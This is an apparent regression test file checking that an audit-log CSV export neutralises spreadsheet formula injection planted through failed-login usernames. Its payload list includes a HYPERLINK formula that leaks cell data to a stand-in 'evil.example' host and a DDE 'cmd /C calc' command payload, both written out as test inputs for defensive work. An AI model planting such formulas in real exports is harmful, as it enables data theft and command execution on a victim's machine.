"""Issue 19, finding 8: the audit CSV cannot carry a formula into the admin's spreadsheet.

Before: anyone, without logging in, could plant ``=HYPERLINK(...)`` as the username of a failed login, and
the admin's "Download CSV" wrote it as is: a spreadsheet runs it when the file is opened.
"""

from __future__ import annotations

import csv
import io

import pytest

from medspeak.auth.roles import Actor
from medspeak.services import audit_log
from medspeak.store import audit
from medspeak.store.db import Store

_PLANTED = [
    '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("planted", _PLANTED)
def test_a_formula_planted_as_a_username_reaches_the_csv_as_text(
    store: Store, actors: dict[str, Actor], planted: str
) -> None:
    # A failed login no longer stores an unknown username (tests/api/test_low_findings.py); any other text
    # an outsider controls, written to the trail, must still reach the CSV inert.
    with store.transaction() as db:
        audit.record(db, username=planted[:64], role="-", action="auth.login", outcome="failure", detail=planted)
    rows = audit_log.page_events(store, actors["admin"], audit_log.AuditFilter(action="auth.login"), limit=500).items
    cells = [cell for row in csv.reader(io.StringIO(audit_log.events_csv(rows).decode("utf-8"))) for cell in row]
    planted_cells = [c for c in cells if any(m in c.lower() for m in ("1+1", "hyperlink", "calc", "2+3"))]
    assert planted_cells, "the failed login is in the export"
    for cell in planted_cells:
        assert cell.startswith("'"), cell  # a leading quote: the spreadsheet shows the text, runs nothing
    for cell in cells:
        assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), cell


def test_ordinary_values_are_unchanged(store: Store, actors: dict[str, Actor]) -> None:
    rows = audit_log.page_events(store, actors["admin"], audit_log.AuditFilter(), limit=500).items
    text = audit_log.events_csv(rows).decode("utf-8")
    header = next(csv.reader(io.StringIO(text)))
    assert header[:3] == ["#", "When (UTC)", "User"]
